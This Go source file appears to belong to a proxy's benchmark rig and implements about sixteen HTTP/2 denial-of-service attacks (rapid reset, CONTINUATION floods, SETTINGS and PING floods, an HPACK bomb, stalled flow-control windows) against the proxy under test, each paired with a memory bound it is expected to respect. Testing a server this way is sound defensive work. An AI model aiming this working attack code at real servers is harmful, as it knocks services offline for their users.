package main

import (
	"bufio"
	"bytes"
	"io"
	"math/rand/v2"
	"net"
	"net/http"
	"strconv"
	"strings"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"

	"github.com/retryproxy/retryproxy/bench/internal/rig"
)

// frames is a connection of HTTP/2, frame by frame.
type frames struct {
	*http2.Framer
	out  *bufio.Writer
	nc   net.Conn
	next uint32 // stream
	head bytes.Buffer
	enc  *hpack.Encoder
}

// http2 begins a connection of HTTP/2.
func (s *strike) http2(settings ...http2.Setting) (*frames, error) {
	nc, err := s.dial(s.addr)
	if err != nil {
		return nil, err
	}
	out := bufio.NewWriterSize(nc, 16*kib)
	f := &frames{Framer: http2.NewFramer(out, nc), out: out, nc: nc, next: 1}
	f.AllowIllegalWrites = true
	f.ReadMetaHeaders = hpack.NewDecoder(4096, nil)
	f.enc = hpack.NewEncoder(&f.head)
	_, _ = out.WriteString(http2.ClientPreface)
	_ = f.WriteSettings(settings...)
	_ = f.WriteSettingsAck() // of what it has not said yet
	return f, out.Flush()    // and the error of all these
}

// listen calls hear, unless it is nil, for each frame that the proxy sends until the connection ends. s counts those
// that turn the attacker away: resets, and answers of 4xx and 5xx.
func (s *strike) listen(f *frames, hear func(http2.Frame)) {
	for {
		frame, err := f.ReadFrame()
		if err != nil {
			return
		}
		if hear != nil {
			hear(frame)
		}
		switch frame := frame.(type) {
		case *http2.RSTStreamFrame, *http2.GoAwayFrame:
			s.resets.Add(1)
		case *http2.MetaHeadersFrame:
			if frame.PseudoValue("status") > "4" {
				s.resets.Add(1)
			}
		}
	}
}

// block is the header block of a request, with more fields if given (name, value).
func (f *frames) block(method, path string, more ...string) []byte {
	return f.fields(append([]string{":method", method, ":path", path, ":scheme", "http", ":authority", "bench.test"}, more...))
}

// fields is a header block of names and values in turn, whatever they are.
func (f *frames) fields(pairs []string) []byte {
	f.head.Reset()
	for i := 0; i < len(pairs); i += 2 {
		_ = f.enc.WriteField(hpack.HeaderField{Name: pairs[i], Value: pairs[i+1]})
	}
	return f.head.Bytes()
}

// begin opens a stream and returns its number.
func (f *frames) begin(block []byte, end bool) (uint32, error) {
	id := f.next
	f.next += 2
	return id, f.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block, EndStream: end, EndHeaders: true})
}

// fill opens as many streams as may be.
func (f *frames) fill(path string) error {
	for range atOnce {
		if _, err := f.begin(f.block("GET", path), true); err != nil {
			return err
		}
	}
	return f.out.Flush()
}

// perConnection is how many requests one connection is used for by askByHTTP2: their
// answers are not to fill its window, which never opens again.
const perConnection = 30

// askByHTTP2 sends requests, each as its fields (name, value) and a body, one after the
// other over one connection, and calls tell for each response. A request that ends the connection ends the rest.
func (s *strike) askByHTTP2(next func() (pairs []string, body string), tell func(r *http.Response)) error {
	f, err := s.http2()
	if err != nil {
		return err
	}
	defer f.nc.Close()
	for range perConnection {
		pairs, body := next()
		id, err := f.begin(f.fields(pairs), body == "")
		if err == nil && body != "" {
			err = f.WriteData(id, true, []byte(body))
		}
		if err == nil {
			err = f.out.Flush()
		}
		if err != nil {
			return nil // the one before has ended the connection
		}
		s.sent.Add(1)
		r, err := f.answer(id)
		if err != nil {
			return nil
		}
		if r != nil {
			tell(r)
		}
	}
	return nil
}

// answer waits for the final response headers of a stream; nil: the stream was refused.
func (f *frames) answer(id uint32) (*http.Response, error) {
	_ = f.nc.SetReadDeadline(time.Now().Add(patience))
	for {
		frame, err := f.ReadFrame()
		if err != nil {
			return nil, err
		}
		switch frame := frame.(type) {
		case *http2.GoAwayFrame:
			return nil, io.EOF
		case *http2.RSTStreamFrame:
			if frame.StreamID == id {
				return nil, nil
			}
		case *http2.MetaHeadersFrame:
			r := &http.Response{Header: http.Header{}}
			r.StatusCode, _ = strconv.Atoi(frame.PseudoValue("status"))
			for _, field := range frame.RegularFields() {
				r.Header.Add(field.Name, field.Value)
			}
			if frame.StreamID == id && r.StatusCode >= 200 {
				return r, nil
			}
		}
	}
}

// script is what an attacker by HTTP/2 does on each connection.
type script struct {
	deaf     bool                    // reads nothing
	settings []http2.Setting         // of the client
	begin    func(f *frames) error   // once; nil: nothing
	sends    int64                   // requests, by begin
	again    func(f *frames) error   // then, again and again; nil: nothing, until the connection ends
	every    time.Duration           // between these, and what is written goes out at once; 0: as fast as can be
	pause    time.Duration           // before the next connection, for whom to come at once would be another attack, on the cores
	hear     func(frame http2.Frame) // what the proxy says; nil: nothing else than s.listen
}

func (c script) strike(s *strike) error {
	err := c.play(s)
	if c.pause > 0 {
		rig.Sleep(s, c.pause)
	}
	return err
}

func (c script) play(s *strike) error {
	f, err := s.http2(c.settings...)
	if err != nil {
		return err
	}
	ended := make(chan struct{})
	if !c.deaf {
		go func() {
			defer close(ended)
			s.listen(f, c.hear)
		}()
	}
	if c.begin != nil {
		if err := c.begin(f); err != nil {
			return err
		}
		if err := f.out.Flush(); err != nil {
			return err
		}
		s.sent.Add(c.sends)
	}
	if c.again == nil {
		select {
		case <-s.Done():
		case <-ended:
		}
		return io.EOF // if the attack is not over
	}
	return s.every(c.every, func() error {
		if err := c.again(f); err != nil || c.every == 0 {
			return err
		}
		return f.out.Flush()
	})
}

// What one connection may make the proxy hold, and the bounds that follow: estimates from the proxy's limits, not
// measurements. The Go runtime lets garbage grow to as much as is in use, hence the factors of two.
const (
	// apart from the attack: what the others' requests leave behind, and buffers that are kept for more.
	atEase = 24 * mib
	// a connection with nothing on it: three goroutines, read and write buffers.
	perConn = 128 * kib
	// request headers of 64 KiB as they come, as a map, and as HTTP/1.1.
	perHead = 2 * 4 * 64 * kib
	// control frames to be answered: 10 000, then net/http ends the connection.
	perQueue = 2 * 10_000 * 256
	// a request in flight: two goroutines, two connections' buffers of 64 KiB, the bridge's 64 KiB.
	perStream = 2 * 256 * kib
	// bodies that nobody reads.
	perWindow = 2 * mib
	atOnce    = 128 // RETRYPROXY_MAX_CONCURRENT_STREAMS

	streams4    = atEase + 4*atOnce*perStream
	streams4Why = "4 connections with 128 requests each"
	queues4     = atEase + 4*(perConn+perQueue)
	queues4Why  = "4 queues of 10 000 control frames"
	heads4      = atEase + 4*(perConn+perHead)
)

// window is a client's window for each stream.
func window(size uint32) []http2.Setting {
	return []http2.Setting{{ID: http2.SettingInitialWindowSize, Val: size}}
}

// http2Attacks are made by HTTP/2.
var http2Attacks = []attack{
	{name: "rapid reset", conns: 4, ends: true, bound: streams4, why: streams4Why, strike: script{again: func(f *frames) error {
		id, err := f.begin(f.block("GET", "/slow"), true)
		if err != nil {
			return err
		}
		return f.WriteRSTStream(id, http2.ErrCodeCancel)
	}}.strike},
	{name: "CONTINUATION without end", conns: 4, ends: true, bound: heads4, why: "4 heads", strike: continuation(strings.Repeat("x", 8*kib), 0)},
	{name: "CONTINUATION without content", conns: 4, ends: true, bound: heads4, why: "4 heads", strike: continuation("", 0)},
	{name: "CONTINUATION byte by byte", conns: 100, ends: true, bound: atEase + 100*(perConn+perHead/8), why: "100 connections", strike: continuation("x", 50*time.Millisecond)},
	{name: "SETTINGS", conns: 4, ends: true, bound: queues4, why: queues4Why, strike: script{again: func(f *frames) error {
		return f.WriteSettings(http2.Setting{ID: http2.SettingMaxFrameSize, Val: 1 << 14})
	}}.strike},
	{name: "SETTINGS, answers unread", conns: 4, ends: true, bound: queues4, why: queues4Why, strike: script{deaf: true, again: func(f *frames) error { return f.WriteSettings() }}.strike},
	{name: "PING", conns: 4, ends: true, bound: queues4, why: queues4Why, strike: script{again: ping}.strike},
	{name: "PING, answers unread", conns: 4, ends: true, bound: queues4, why: queues4Why, strike: script{deaf: true, again: ping}.strike},
	{name: "PRIORITY", conns: 4, ends: true, bound: atEase + 4*perConn, why: "4 connections", strike: script{again: func(f *frames) error { return f.WritePriority(3, http2.PriorityParam{Weight: 9}) }}.strike},
	{name: "frames of an unknown kind", conns: 4, ends: true, bound: atEase + 4*perConn, why: "4 connections", strike: script{again: func(f *frames) error { return f.WriteRawFrame(0x77, 0, 1, make([]byte, 1024)) }}.strike},
	{name: "HPACK bomb", conns: 4, ends: true, bound: atEase + 4*(perConn+atOnce*perHead/4), why: "4 connections with 128 heads of 64 KiB", strike: bomb},
	{name: "windows of zero", conns: 4, bound: streams4, why: streams4Why, strike: script{settings: window(0), sends: atOnce, begin: func(f *frames) error { return f.fill("/medium") }}.strike},
	{name: "windows that open by a byte", conns: 4, bound: streams4, why: streams4Why,
		strike: script{settings: window(1), begin: func(f *frames) error { return f.fill("/medium") }, again: func(f *frames) error {
			return f.WriteWindowUpdate(1+2*rand.Uint32N(atOnce), 1)
		}}.strike},
	{name: "streams beyond the most at once", conns: 4, ends: true, bound: streams4, why: streams4Why, strike: script{again: func(f *frames) error {
		_, err := f.begin(f.block("POST", "/ok"), false)
		return err
	}}.strike},
	{name: "DATA without content", conns: 4, ends: true, bound: atEase + 4*(perConn+perStream), why: "4 requests",
		strike: script{again: func(f *frames) error { return f.WriteData(1, false, nil) }, begin: func(f *frames) error {
			_, err := f.begin(f.block("POST", "/ok"), false)
			return err
		}}.strike},
	{name: "bodies that nobody reads", conns: 4, bound: atEase + 4*(perWindow+atOnce*perStream), why: "4 connections' windows of 1 MiB and 128 requests each", strike: script{sends: atOnce, begin: unreadBodies}.strike},
}

func ping(f *frames) error { return f.WritePing(false, [8]byte{}) }

// continuation sends request headers that do not end, a piece every d.
func continuation(piece string, d time.Duration) func(*strike) error {
	return func(s *strike) error {
		field := []byte(piece)
		return script{every: d, begin: func(f *frames) error {
			if len(piece) > 1 { // whole fields
				field = bytes.Clone(f.block("GET", "/ok", "x-large", piece))
			}
			return f.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: f.block("GET", "/ok")})
		}, again: func(f *frames) error { return f.WriteContinuation(1, false, field) }}.strike(s)
	}
}

// bomb is a header block of a few kilobytes that unpacks to megabytes: one large field
// kept in the table, then named by a byte each time.
func bomb(s *strike) error {
	var block []byte
	return script{begin: func(f *frames) error {
		large := f.block("GET", "/ok", "x-bomb", strings.Repeat("b", 3*kib))
		block = append(bytes.Clone(large), strings.Repeat("\xbe", 8*kib)...) // 62: the newest of the table
		return nil
	}, again: func(f *frames) error { _, err := f.begin(block, true); return err }}.strike(s)
}

// unreadBodies sends bodies to where nobody reads them, as far as the windows let it.
func unreadBodies(f *frames) error {
	piece := make([]byte, 16*kib)
	for range atOnce {
		id, err := f.begin(f.block("POST", "/deaf"), false)
		if err == nil && id < 2*60 { // 60 of 16 KiB: less than the connection's window of 1 MiB
			err = f.WriteData(id, false, piece)
		}
		if err != nil {
			return err
		}
	}
	return nil
}
